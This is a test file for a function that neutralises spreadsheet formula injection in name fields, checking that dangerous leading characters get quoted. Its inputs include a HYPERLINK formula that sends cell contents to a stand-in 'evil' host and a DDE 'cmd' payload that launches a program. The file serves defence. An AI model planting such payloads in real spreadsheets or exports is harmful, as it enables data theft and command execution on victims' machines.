import { expect, test } from 'bun:test'
import { withoutFormulas } from './formulas.ts'

test.each([
  ['=HYPERLINK("http://evil/?"&A1)', `'=HYPERLINK("http://evil/?"&A1)`],
  ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  ['\tRex', "'\tRex"],
  ['  =1', "'  =1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['＝1', "'＝1"],
  ['Rex;=1', "Rex;'=1"],
  ['Rex, =1', "Rex,' =1"],
  ['Rex"\n=1', `Rex"\n'=1`],
])('%j cannot begin a formula', (name, shown) => expect(withoutFormulas(name)).toBe(shown))

test.each(['Rex', 'Mia-Lou', 'a=b', 'Rex & Mia', "'=1", '1 + 1', 'Zoë', 'a@b'])('%j stays as it is', name =>
  expect(withoutFormulas(name)).toBe(name),
)

test('the worst name takes no time', () => {
  // Processor time: on a busy machine the clock tells of the others.
  const before = process.cpuUsage()
  for (const worst of ['\t'.repeat(255), ';'.repeat(255), '=;'.repeat(127), ' '.repeat(255)])
    withoutFormulas(worst)
  expect(process.cpuUsage(before).user / 1000).toBeLessThan(50)
})
